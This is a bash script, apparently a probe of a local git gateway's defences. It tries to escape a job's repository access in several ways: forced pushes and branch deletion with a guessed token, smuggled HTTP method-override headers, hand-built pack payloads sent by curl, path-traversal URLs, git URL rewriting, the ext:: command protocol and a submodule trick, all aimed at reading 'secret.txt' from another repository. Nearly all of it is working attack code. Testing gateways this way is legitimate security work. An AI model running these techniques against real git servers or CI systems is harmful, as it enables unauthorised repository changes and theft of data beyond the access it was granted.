#!/bin/bash
# Uses git itself, in the clone and with the settings that it has, to get more from the gateway than a fetch of the job's
# repository: pushes to it in all dialects, fetches, clones and archives of another repository that the server's token can
# read, addresses that are rewritten on the way, headers and programs of its own choice.
# Success: a branch of the repository changes, or a file of the other repository is printed.
cd /workspace || exit 0
origin=$(git remote get-url origin)
other=${origin/books/secret}
echo taken >taken.txt && git add taken.txt && git commit --quiet --message 'Taken over'
try() { timeout 10 "$@" </dev/null 2>&1 | tail -3; }

try git -c protocol.version=0 push --force origin HEAD:main HEAD:refs/heads/evil
try git -c remote.origin.pushurl="${origin/127.0.0.1/x-access-token:guess@127.0.0.1}" push --delete origin main
try git -c http.extraHeader='X-HTTP-Method-Override: POST' -c http.extraHeader='X-Backspace-Target: git-receive-pack' \
  push --receive-pack='git-upload-pack' "$origin/../books.git" HEAD:evil
zero=0000000000000000000000000000000000000000
line="$zero $(git rev-parse HEAD) refs/heads/evil"$'\n'
{ printf '%04x%s0000' $((${#line} + 4)) "$line"; git rev-parse HEAD | git pack-objects --stdout --revs -q; } >/tmp/push
for request in 'git-receive-pack receive' 'git-upload-pack receive' 'git-upload-pack upload' \
  'git-upload-pack?service=git-receive-pack receive'; do
  type="Content-Type: application/x-git-${request#* }-pack-request"
  try curl --silent --data-binary @/tmp/push --header "$type" "$origin/${request% *}"
done

# What is printed of these is a file of the other repository, if there is any.
rm -f .git/FETCH_HEAD
loot() { git cat-file -p FETCH_HEAD:secret.txt 2>/dev/null; cat /tmp/other/secret.txt 2>/dev/null; }
try git clone --quiet "$other" /tmp/other && loot
try git -c url."$other".insteadOf="$origin" fetch origin main && loot
try git fetch "${origin%/books.git}/books.git/../secret.git" main && loot
try git -c http.followRedirects=true fetch "${origin%/books.git}/books.git%2f..%2fsecret.git" main && loot
try git archive --remote="$other" main secret.txt
try git -c protocol.ext.allow=always fetch "ext::curl --silent $other/info/refs?service=git-upload-pack" && loot
try git -c protocol.allow=always submodule --quiet add ../secret.git sub && cat sub/secret.txt
rm -f .git/FETCH_HEAD && try git fetch origin && git rev-parse --verify --quiet FETCH_HEAD && echo 'the gateway is open'
